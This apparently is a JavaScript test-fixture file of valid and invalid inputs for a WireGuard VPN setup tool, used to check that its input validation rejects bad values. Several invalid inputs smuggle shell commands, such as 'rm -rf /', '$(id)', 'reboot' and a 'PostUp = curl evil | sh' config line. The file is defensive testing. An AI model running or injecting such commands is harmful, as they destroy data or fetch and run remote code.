// Inputs shared by the unit tests and the end-to-end bad-input test. These keys exist only in tests.
// @ts-check
export const PRIVATE = 'yAnz5TF+lXXJte14tji3zlMNq+hd2rYUIgJBgB3fBmk='
export const PEER = 'xTIBA5rboUvnH4htodjb6e697QjLERt1NAB4mZqp8Dg='
export const PSK = 'FpCyhws9cxwWoV4xELtfJvjJN+zQVRPISllRWgeopVE='

/** @type {Record<string, string>} */
export const valid = {
  'private-key': PRIVATE,
  address: '192.0.2.2/24',
  'peer-public-key': PEER,
  endpoint: 'vpn.example.com:51820'
}

/** A complete wg-quick configuration. */
export const CONFIG = `[Interface]
PrivateKey = ${PRIVATE}
Address = 192.0.2.2/24

[Peer]
PublicKey = ${PEER}
Endpoint = vpn.example.com:51820
AllowedIPs = 192.0.2.0/24
`

/** @type {Record<string, string>} The per-field inputs emptied, for rows that give config. */
const NO_FIELDS = { 'private-key': '', address: '', 'peer-public-key': '', endpoint: '' }

/** @type {[string, string, string, Record<string, string>?][]} [label, input, value, other inputs]: each must be refused with an error naming the input. */
export const badInputs = [
  ['private-key empty', 'private-key', ''],
  ['private-key whitespace', 'private-key', '   \n '],
  ['private-key too short', 'private-key', PRIVATE.slice(4)],
  ['private-key too long', 'private-key', `AAAA${PRIVATE}`],
  ['private-key bad alphabet', 'private-key', PRIVATE.replace('+', '-')],
  ['private-key hex', 'private-key', 'c8'.repeat(32)],
  ['private-key no padding', 'private-key', PRIVATE.slice(0, -1)],
  ['private-key non-canonical last char', 'private-key', `${PRIVATE.slice(0, 42)}n=`],
  ['private-key shell', 'private-key', `${PRIVATE.slice(0, 40)};rm=`],
  ['private-key two keys', 'private-key', `${PRIVATE}\n${PRIVATE}`],
  ['peer-public-key empty', 'peer-public-key', ''],
  ['peer-public-key short', 'peer-public-key', 'abc='],
  ['peer-public-key $()', 'peer-public-key', '$(id)'],
  ['peer-public-key own key', 'peer-public-key', 'HIgo9xNzJMWLKASShiTqIybxZ0U3wGLiUeJ1PKf8ykw='],
  ['preshared-key short', 'preshared-key', 'abcd'],
  ['preshared-key backticks', 'preshared-key', '`id`'],
  ['preshared-key bad alphabet', 'preshared-key', `${PSK.slice(0, 10)}*${PSK.slice(11)}`],
  ['address empty', 'address', ''],
  ['address whitespace', 'address', '  '],
  ['address only commas', 'address', ' , ,'],
  ['address octet 256', 'address', '192.0.2.256/24'],
  ['address prefix 33', 'address', '192.0.2.2/33'],
  ['address prefix 129', 'address', '2001:db8::2/129'],
  ['address prefix empty', 'address', '192.0.2.2/'],
  ['address host name', 'address', 'runner.example.com'],
  ['address semicolon', 'address', '192.0.2.2/24;reboot'],
  ['address newline command', 'address', '192.0.2.2/24\n$(reboot)'],
  ['address double ::', 'address', '2001:db8::1::2/64'],
  ['address bare host, no allowed-ips', 'allowed-ips', '', { address: '192.0.2.2' }],
  ['allowed-ips bad CIDR', 'allowed-ips', '10.0.0.0/40'],
  ['allowed-ips host name', 'allowed-ips', 'intranet.example.com'],
  ['allowed-ips backticks', 'allowed-ips', '`reboot`'],
  ['allowed-ips pipe', 'allowed-ips', '10.0.0.0/8 | sh'],
  ['endpoint empty', 'endpoint', ''],
  ['endpoint no port', 'endpoint', 'vpn.example.com'],
  ['endpoint port 0', 'endpoint', 'vpn.example.com:0'],
  ['endpoint port 65536', 'endpoint', 'vpn.example.com:65536'],
  ['endpoint port word', 'endpoint', 'vpn.example.com:http'],
  ['endpoint v6 without brackets', 'endpoint', '2001:db8::1:51820'],
  ['endpoint v4 in brackets', 'endpoint', '[192.0.2.1]:51820'],
  ['endpoint semicolon', 'endpoint', 'vpn.example.com;id:51820'],
  ['endpoint $()', 'endpoint', '$(id).example.com:51820'],
  ['endpoint space', 'endpoint', 'vpn example.com:51820'],
  ['endpoint label too long', 'endpoint', `${'a'.repeat(64)}.example.com:51820`],
  ['persistent-keepalive negative', 'persistent-keepalive', '-1'],
  ['persistent-keepalive too big', 'persistent-keepalive', '65536'],
  ['persistent-keepalive word', 'persistent-keepalive', 'off'],
  ['persistent-keepalive decimal', 'persistent-keepalive', '2.5'],
  ['mtu too small', 'mtu', '100'],
  ['mtu too big', 'mtu', '70000'],
  ['mtu word', 'mtu', 'auto'],
  ['interface too long', 'interface', 'a-very-long-name0'],
  ['interface slash', 'interface', 'wg/0'],
  ['interface space', 'interface', 'wg 0'],
  ['interface semicolon', 'interface', 'wg0;id'],
  ['interface dot-dot', 'interface', '..'],
  ['interface $()', 'interface', '$(id)'],
  ['check bad URL', 'check', 'http://'],
  ['check port 0', 'check', '192.0.2.1:0'],
  ['check shell', 'check', '192.0.2.1; reboot'],
  ['check backticks', 'check', '`id`:22'],
  ['check URL with quote', 'check', "http://192.0.2.1/'$(id)'"],
  ['timeout zero', 'timeout', '0'],
  ['timeout negative', 'timeout', '-5'],
  ['timeout word', 'timeout', 'forever'],
  ['timeout too big', 'timeout', '3601'],
  ['install unknown', 'install', 'maybe'],
  ['install yes', 'install', 'yes'],
  ['userspace unknown', 'userspace', 'kernel'],
  ['userspace shell', 'userspace', 'auto;id'],
  ['dns not an address or name', 'dns', '192.0.2.53; rm -rf /'],
  ['dns bad address', 'dns', '192.0.2.300'],
  ['config combined with per-field inputs', 'config', CONFIG],
  ['config with PostUp', 'config', `${CONFIG}PostUp = curl evil | sh\n`, NO_FIELDS],
  ['config with SaveConfig', 'config', CONFIG.replace('[Peer]', 'SaveConfig = true\n[Peer]'), NO_FIELDS],
  ['config without a peer', 'config', CONFIG.slice(0, CONFIG.indexOf('[Peer]')), NO_FIELDS],
  ['config unknown key', 'config', CONFIG.replace('[Peer]', 'Foo = bar\n[Peer]'), NO_FIELDS],
  ['config bad private key', 'config', CONFIG.replace(PRIVATE, PRIVATE.slice(1)), NO_FIELDS],
  ['config peer without public key', 'config', CONFIG.replace(/PublicKey = .*\n/, ''), NO_FIELDS],
  ['config bad endpoint', 'config', CONFIG.replace('vpn.example.com:51820', 'vpn.example.com:99999'), NO_FIELDS],
  ['config bad table', 'config', CONFIG.replace('[Peer]', 'Table = sometimes\n[Peer]'), NO_FIELDS],
  ['config text outside sections', 'config', `hello\n${CONFIG}`, NO_FIELDS]
]
